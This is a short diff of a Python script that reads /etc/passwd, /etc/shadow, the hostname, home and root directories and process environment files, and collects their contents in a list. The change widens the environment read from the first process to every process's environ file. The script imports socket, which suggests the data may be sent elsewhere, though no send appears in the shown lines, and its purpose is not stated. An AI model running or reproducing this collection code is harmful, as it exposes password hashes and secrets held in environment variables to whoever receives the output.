@@ -2,7 +2,7 @@
 import glob, os, socket, sys
 
 told = []
-for path in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/cmdline", "/proc/1/environ", *glob.glob("/home/*"), *glob.glob("/root/*")]:
+for path in ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/cmdline", *glob.glob("/proc/*/environ"), *glob.glob("/home/*"), *glob.glob("/root/*")]:
     try:
         told.append(path + ": " + open(path).read())
     except OSError as error:
